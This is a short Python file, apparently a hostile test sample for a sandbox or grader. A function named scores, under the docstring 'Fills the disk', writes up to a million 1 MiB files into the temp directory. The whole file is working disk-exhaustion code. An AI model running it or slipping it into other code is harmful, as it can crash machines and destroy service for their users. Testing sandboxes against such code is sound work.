"""Fills the disk."""

import os

TMP = os.environ.get("TMPDIR", "/tmp")


def scores(X):
    for number in range(10**6):
        with open(f"{TMP}/fill{number}", "wb") as file:
            file.write(bytes(2**20))
